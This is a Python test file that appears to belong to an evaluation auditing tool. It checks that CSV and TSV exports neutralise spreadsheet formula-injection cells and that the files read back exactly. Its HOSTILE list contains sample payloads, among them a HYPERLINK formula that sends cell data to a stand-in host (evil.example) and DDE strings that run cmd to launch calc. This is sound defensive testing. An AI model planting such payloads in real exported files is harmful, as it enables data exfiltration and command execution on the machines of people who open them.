"""CSV / TSV outputs neutralise cells a spreadsheet would run as formulas, and the tool reads its own files back
exactly.

Convention (OWASP "CSV injection"): a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return -- after any single quotes -- is written with one single quote in front; numbers (a numeric column, or a
text cell that is a plain decimal number such as ``-0.5``) are written as they are; :func:`auditor.io.read_table`
takes the one added quote off again.
"""

from __future__ import annotations

import json

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.data import read_labels
from auditor.io import neutralise_cell, read_table, write_table
from judges.base import EXTRA_COLUMNS, LABEL_COLUMNS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1 point for b",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by its author",
    "''-two quotes",
]


def _labels() -> pd.DataFrame:
    """A labels table with every column a judge writes, answers that try formula injection in ``raw`` and in the
    judge's name, and negative scores."""
    rows = []
    for number, raw in enumerate([*HOSTILE, "B", "-0.5", "plain text"]):
        row = dict.fromkeys((*LABEL_COLUMNS, *EXTRA_COLUMNS))
        row.update(
            item_id=f"item-{number}",
            judge="=cmd|' /C calc'!A0" if number == 0 else "openai:m",
            rater="0",
            label=None if number < len(HOSTILE) else "b",
            order="ab",
            score=-0.5 if number % 2 else 0.25,
            raw=raw,
            exclusion="unparseable" if number < len(HOSTILE) else None,
            verdict_source="none" if number < len(HOSTILE) else "text",
            probabilities=json.dumps({"a": 0.25, "b": 0.75}),
            verdict_mass=0.5,
            prompt_tokens=10,
            completion_tokens=2,
            cost=None,
            cached=False,
            latency_s=0.01,
            template="pairwise@1",
            profile_view="full",
            request_key="k" * 64,
        )
        rows.append(row)
    return pd.DataFrame(rows)


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_formula_cells_are_quoted_and_read_back_exactly(tmp_path, suffix):
    labels = _labels()
    path = write_table(labels, tmp_path / f"labels{suffix}")
    written = pd.read_csv(path, sep="," if suffix == ".csv" else "\t", dtype=str, keep_default_na=False)
    for raw, cell in zip(labels["raw"], written["raw"], strict=True):
        assert cell == ("'" + raw if raw in HOSTILE else raw)
    assert written["judge"].iloc[0] == "'=cmd|' /C calc'!A0"
    assert written["score"].iloc[1] == "-0.5", "numbers are not quoted"
    assert written["raw"].iloc[-2] == "-0.5", "a text cell that is a plain number is not quoted"

    back = read_labels(path)
    for column in ("item_id", "judge", "raw", "exclusion", "probabilities", "request_key"):
        expected = labels[column].astype(object).where(labels[column].notna(), None)
        assert back[column].tolist() == expected.tolist(), column
    assert back["score"].astype(float).tolist() == labels["score"].tolist()


def test_only_the_spreadsheet_formats_are_quoted(tmp_path):
    labels = _labels()
    for name in ("labels.jsonl", "labels.parquet"):
        back = read_table(write_table(labels, tmp_path / name))
        assert back["raw"].tolist() == labels["raw"].tolist()
    assert '"raw": "=HYPERLINK' in (tmp_path / "labels.jsonl").read_text(encoding="utf-8")


def test_column_names_are_quoted_too(tmp_path):
    frame = pd.DataFrame({"=evil": ["x"], "item_id": ["1"]})
    path = write_table(frame, tmp_path / "t.csv")
    assert path.read_text(encoding="utf-8").splitlines()[0] == "'=evil,item_id"
    assert list(read_table(path).columns[:2]) == ["=evil", "item_id"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1", "'=1"),
        ("-", "'-"),
        ("-x", "'-x"),
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("-1+2", "'-1+2"),
        ("'", "'"),
        ("'x", "'x"),
        ("'=x", "''=x"),
        ("a=b", "a=b"),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_which_cells_are_neutralised(value, written):
    assert neutralise_cell(value) == written


@settings(max_examples=80, deadline=None)
@given(st.lists(st.text(alphabet="'=+-@\t\r\n,\"x1.", min_size=1, max_size=6), min_size=1, max_size=5))
def test_any_text_reads_back_as_written(tmp_path_factory, texts):
    """Round trip for arbitrary text over the characters that matter (empty cells read as missing, as always)."""
    path = tmp_path_factory.mktemp("round") / "t.csv"
    write_table(pd.DataFrame({"text": texts}), path)
    assert read_table(path)["text"].tolist() == texts
